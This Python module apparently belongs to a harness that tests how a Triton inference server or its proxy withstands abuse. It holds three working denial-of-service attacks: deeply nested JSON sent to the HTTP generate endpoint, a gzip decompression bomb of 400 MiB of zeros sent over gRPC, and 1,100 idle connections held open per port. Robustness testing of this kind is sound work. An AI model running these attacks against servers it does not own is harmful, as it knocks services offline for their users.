"""Attacks on whatever listens at a server's ports, with nothing but what any client has: rows for a table of abuse."""

from __future__ import annotations

import select
import socket
import time
from collections.abc import Callable, Mapping
from contextlib import ExitStack
from dataclasses import dataclass
from http.client import HTTPConnection, HTTPException

import grpc  # type: ignore[import-untyped]
from tritonclient.grpc import service_pb2
from tritonclient.grpc.service_pb2_grpc import GRPCInferenceServiceStub

_DEPTH = 200_000
_INFLATED_BYTES = 400 << 20
_NUM_CONNECTIONS = 1100
_HOLD_S = 5.0
_TIMEOUT_S = 60.0


@dataclass(frozen=True)
class Doors:
    """Where clients connect, `host:port`: to the server itself, or to the proxy before it."""

    http_url: str
    grpc_url: str


Attack = Callable[[Doors], str]
"""Carries out an attack and tells in a few words what the attacker met."""


def send_deep_json(doors: Doors) -> str:
    """400 kB of brackets to `generate`."""
    body = '{"text_input":' + "[" * _DEPTH + "]" * _DEPTH + "}"
    connection = HTTPConnection(doors.http_url, timeout=_TIMEOUT_S)
    try:
        connection.request("POST", "/v2/models/generation_unary/generate", body)
        return f"HTTP {connection.getresponse().status}"
    except (OSError, HTTPException) as error:
        return f"disconnected ({type(error).__name__})"
    finally:
        connection.close()


def send_compressed_zeros(doors: Doors) -> str:
    """400 MiB of zeros, an adapter's weights, in less than a MiB of gzip."""
    request = service_pb2.ModelInferRequest(model_name="generation_unary")
    request.inputs.add(name="lora_weights", datatype="FP16", shape=[1, 1, _INFLATED_BYTES // 2])
    request.raw_input_contents.append(bytes(_INFLATED_BYTES))
    with grpc.insecure_channel(doors.grpc_url, [("grpc.max_send_message_length", -1)]) as channel:
        stub = GRPCInferenceServiceStub(channel)
        try:
            stub.ModelInfer(request, timeout=_TIMEOUT_S, compression=grpc.Compression.Gzip)
        except grpc.RpcError as error:
            return f"{error.code().name}: {error.details()}"
    return "answered"


def hold_idle_connections(doors: Doors) -> str:
    """1,100 connections to each port that never send a byte, for some seconds."""
    with ExitStack() as stack:
        idle = [
            stack.enter_context(socket.create_connection((host, int(port))))
            for url in (doors.http_url, doors.grpc_url)
            for host, port in [url.split(":")]
            for _ in range(_NUM_CONNECTIONS)
        ]
        time.sleep(_HOLD_S)
        return f"{_num_closed(idle)} of {len(idle)} closed"


def _num_closed(connections: list[socket.socket]) -> int:
    """How many the peer has closed; gRPC servers speak first, so there may be something to read of the others."""
    poll = select.poll()
    for connection in connections:
        poll.register(connection, select.POLLRDHUP)
    return len(poll.poll(0))


DOOR_ATTACKS: Mapping[str, Attack] = {
    "JSON 200,000 deep to HTTP generate": send_deep_json,
    "gRPC, 400 MiB of zeros in gzip": send_compressed_zeros,
    "1,100 idle connections to each port": hold_idle_connections,
}
"""By what a table calls them."""
